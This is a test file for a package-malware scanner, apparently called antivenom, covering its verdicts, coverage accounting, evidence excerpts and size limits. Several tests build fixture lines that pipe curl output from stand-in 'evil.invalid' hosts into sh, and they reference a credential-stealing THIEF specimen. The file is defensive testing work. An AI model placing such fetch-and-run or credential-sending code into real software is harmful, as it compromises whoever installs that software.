"""The whole pipeline: coverage, excerpts, and what becomes of what could not be read."""

from __future__ import annotations

import tarfile
from dataclasses import replace

import pytest

from antivenom.intake.files import from_bytes
from antivenom.judge import load_knowledge
from antivenom.model.context import NOTHING
from antivenom.model.limits import DEFAULT_LIMITS, Limits
from antivenom.model.profile import Profile
from antivenom.model.review import Review
from antivenom.pipeline import judge, observe
from tests.builders.archives import Part, compressed, entry, make_tar, sdist, wheel, zip_parts
from tests.properties.specimens import SPECIMENS, THIEF

NAME = "demo-1.0-py3-none-any.whl"


def seen(data: bytes, name: str = NAME, limits: Limits = DEFAULT_LIMITS) -> tuple[Profile, Review]:
    profile = observe(from_bytes(data, name), limits)
    return profile, judge(profile, NOTHING, load_knowledge())


def test_an_ordinary_package_is_clean_and_complete() -> None:
    profile, review = seen(
        wheel({"demo/__init__.py": "VERSION = 1\n", "demo/logo.png": b"\x89PNG\r\n"})
    )
    assert (review.verdict.value, review.score, review.reasons) == ("clean", 0.0, ())
    assert review.coverage.problems == ()
    assert review.coverage.complete == len(profile.manifest)


def test_a_syntax_error_is_partial_and_blocks_nothing() -> None:
    broken = "def f(:\n    return ]\nclass (\n"
    _, review = seen(
        wheel(
            {"demo/__init__.py": "x = 1\n", "demo/broken.py": broken + "import os\nK = os.environ"}
        )
    )
    (problem,) = review.coverage.problems
    assert (problem.member, problem.status, problem.blocking) == (
        "demo/broken.py",
        "partial",
        False,
    )
    assert review.verdict.value == "clean"
    assert review.coverage.partial == 1


def test_an_unreadable_member_that_runs_makes_it_inconclusive() -> None:
    part = Part(name=b"demo-1.0/setup.py", data=b"x = 1\n", crc=12345, local_crc=12345)
    info = Part(
        name=b"demo-1.0/PKG-INFO", data=b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"
    )
    _, review = seen(zip_parts([info, part]), "demo-1.0.zip")
    assert review.verdict.value == "inconclusive"
    assert any(p.blocking and p.member.endswith("setup.py") for p in review.coverage.problems)
    assert any("setup.py" in reason for reason in review.reasons)


def test_an_unreadable_picture_does_not() -> None:
    part = Part(name=b"demo/logo.png", data=b"\x89PNG", crc=12345, local_crc=12345)
    code = Part(name=b"demo/__init__.py", data=b"x = 1\n")
    info = Part(
        name=b"demo-1.0.dist-info/METADATA",
        data=b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
    )
    _, review = seen(zip_parts([code, info, part]))
    assert [p.blocking for p in review.coverage.problems] == [False]
    assert review.verdict.value != "inconclusive"


def test_an_encrypted_root_member_makes_it_inconclusive() -> None:
    part = Part(name=b"demo-1.0/setup.py", data=b"x = 1\n", flags=1)
    info = Part(
        name=b"demo-1.0/PKG-INFO", data=b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"
    )
    _, review = seen(zip_parts([info, part]), "demo-1.0.zip")
    assert review.verdict.value in {"inconclusive", "suspicious"}
    assert any(p.blocking for p in review.coverage.problems)


def test_noise_that_is_no_archive_is_never_clean() -> None:
    _, review = seen(b"PK\x03\x04" + bytes(range(256)) * 4)
    assert review.verdict.value == "inconclusive"


@pytest.mark.parametrize("budget", [10, 50])
def test_a_cut_root_is_inconclusive_and_says_so(budget: int) -> None:
    code = "import os\n" + "".join(f"x{n} = os.environ.get('HOME')\n" for n in range(2000))
    limits = replace(DEFAULT_LIMITS, fold_steps=budget)
    _, review = seen(wheel({"demo/__init__.py": code}), limits=limits)
    assert review.verdict.value == "inconclusive"
    assert [(p.member, p.blocking) for p in review.coverage.problems] == [
        ("demo/__init__.py", True)
    ]


def test_code_too_long_to_parse_is_said() -> None:
    limits = replace(DEFAULT_LIMITS, code_bytes=100)
    data = sdist({"setup.py": THIEF, "demo/__init__.py": ""})
    _, review = seen(data, "demo-1.0.tar.gz", limits)
    assert any(p.status == "partial" and p.blocking for p in review.coverage.problems)
    assert review.verdict.value != "clean"


def test_the_counts_add_up() -> None:
    files = {"demo/__init__.py": "x = 1", "demo/bad.py": "def (:\nimport os\nos.system('x')\n",
             "demo/data.json": "{}"}  # fmt: skip
    profile, review = seen(wheel(files))
    covered = review.coverage
    assert covered.complete + covered.partial + covered.failed + covered.skipped == len(
        profile.manifest
    )


def test_evidence_is_shown_with_its_source_line() -> None:
    _, review = seen(wheel({"demo/__init__.py": THIEF}))
    finding = review.findings[0]
    assert finding.rule == "exfiltration/sends-credentials"
    assert finding.activation == "import"
    excerpts = {span.line: span.excerpt for span in finding.spans}
    assert any("requests.post(" in text for text in excerpts.values())
    for span in finding.spans:
        assert THIEF.splitlines()[span.line - 1].strip() == span.excerpt


def test_evidence_inside_a_layer_is_shown_from_the_layer() -> None:
    review = SPECIMENS["hider"].review("wheel")
    inner = [s for f in review.findings for s in f.spans if s.layer == 1]
    assert any("requests.post(" in s.excerpt for s in inner)
    assert review.layers[0].id == 1


def test_excerpts_stay_within_their_budget() -> None:
    limits = replace(DEFAULT_LIMITS, excerpt_bytes=300)
    lines = "".join(f"os.system('curl https://h{n}.evil.invalid | sh')\n" for n in range(100))
    profile, _ = seen(wheel({"demo/__init__.py": "import os\n" + lines}), limits=limits)
    assert sum(len(e.text) for e in profile.excerpts) <= 2 * limits.excerpt_bytes


def test_facts_stay_within_their_limit() -> None:
    limits = replace(DEFAULT_LIMITS, facts=20)
    lines = "".join(f"os.system('curl https://h{n}.evil.invalid | sh')\n" for n in range(100))
    profile, review = seen(wheel({"demo/__init__.py": "import os\n" + lines}), limits=limits)
    assert len(profile.facts) <= 20
    assert profile.overflow > 0
    assert review.verdict.value == "malicious"


def test_a_profile_keeps_no_more_than_it_may() -> None:
    import msgspec

    lines = "".join(
        f"os.system('curl https://h{n}.evil.invalid/{'x' * 300} | sh')\n" for n in range(3000)
    )
    profile, _ = seen(wheel({f"demo/m{k}.py": "import os\n" + lines for k in range(4)}))
    assert len(msgspec.json.encode(profile)) <= 4 << 20
    assert msgspec.json.decode(msgspec.json.encode(profile), type=Profile) == profile


@pytest.mark.parametrize("ending", ["tar.gz", "tar.bz2", "tar.xz", "zip", "txt", ""])
def test_a_name_never_decides_how_bytes_are_read(ending: str) -> None:
    for form in ("wheel", "sdist"):
        _, data = SPECIMENS["thief"].pack(form)
        _, review = seen(data, f"demo-1.0.{ending}".rstrip("."))
        assert review.verdict.value == "malicious", (form, ending)


def test_an_entry_that_is_too_large_to_parse_is_never_clean() -> None:
    import hashlib
    from dataclasses import replace

    from antivenom.judge import load_knowledge
    from antivenom.model.artifact import Artifact
    from antivenom.model.limits import DEFAULT_LIMITS
    from antivenom.model.review import Verdict
    from antivenom.pipeline import judge, observe

    data = b"x = 1\n" * 2000
    artifact = Artifact(
        path="demo.py",
        filename="demo.py",
        sha256=hashlib.sha256(data).hexdigest(),
        size=len(data),
        data=data,
    )
    profile = observe(artifact, replace(DEFAULT_LIMITS, code_bytes=1000))
    assert judge(profile, NOTHING, load_knowledge()).verdict is Verdict.INCONCLUSIVE
    assert judge(observe(artifact), NOTHING, load_knowledge()).verdict is Verdict.CLEAN


def test_what_can_be_read_of_a_damaged_member_is_reviewed() -> None:
    part = Part(name=b"demo-1.0/setup.py", data=THIEF.encode(), crc=12345, local_crc=12345)
    info = Part(
        name=b"demo-1.0/PKG-INFO", data=b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"
    )
    profile, review = seen(zip_parts([info, part]), "demo-1.0.zip")
    assert review.verdict.value == "malicious"
    assert "archive.checksum" in {f.id for f in profile.facts}
    (problem,) = review.coverage.problems
    assert (problem.status, problem.blocking) == ("partial", True)
    assert (review.coverage.complete, review.coverage.partial) == (1, 1)


def test_what_is_there_of_a_cut_archive_is_reviewed() -> None:
    filler = "\n".join(f"name_{n * 7919 % 10007} = {n * 104729}" for n in range(9000))
    whole = sdist({"setup.py": THIEF + "\n" + filler})
    profile, review = seen(whole[: len(whole) // 2], "demo-1.0.tar.gz")
    assert review.verdict.value == "malicious"
    assert "archive.truncated" in {f.id for f in profile.facts}
    assert any(p.status == "partial" and p.blocking for p in review.coverage.problems)


def linked(link: str, target: str, kind: bytes, **files: str) -> bytes:
    """An sdist in which one file is a link."""
    head = "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"
    plain = [entry(f"demo-1.0/{name}", text) for name, text in {"PKG-INFO": head, **files}.items()]
    last = entry(f"demo-1.0/{link}", kind=kind, link=target)
    return compressed(make_tar([*plain, last]), "gz")


@pytest.mark.parametrize(
    ("kind", "target"), [(tarfile.SYMTYPE, "notes"), (tarfile.LNKTYPE, "demo-1.0/notes")]
)
def test_a_link_runs_as_what_it_is_called(kind: bytes, target: str) -> None:
    """The archive does not say twice what it holds once; a client writes both."""
    profile, review = seen(linked("setup.py", target, kind, notes=THIEF), "demo-1.0.tar.gz")
    assert review.verdict.value == "malicious"
    built = {f.member for f in profile.facts if f.activation == "build"}
    assert built == {"demo-1.0/setup.py"}


def test_a_link_to_what_is_not_here_is_not_called_clean() -> None:
    data = linked("setup.py", "../../elsewhere.py", tarfile.SYMTYPE)
    _, review = seen(data, "demo-1.0.tar.gz")
    assert review.verdict.value == "inconclusive"
    picture = linked("logo.png", "../../elsewhere.png", tarfile.SYMTYPE)
    assert seen(picture, "demo-1.0.tar.gz")[1].verdict.value == "clean"
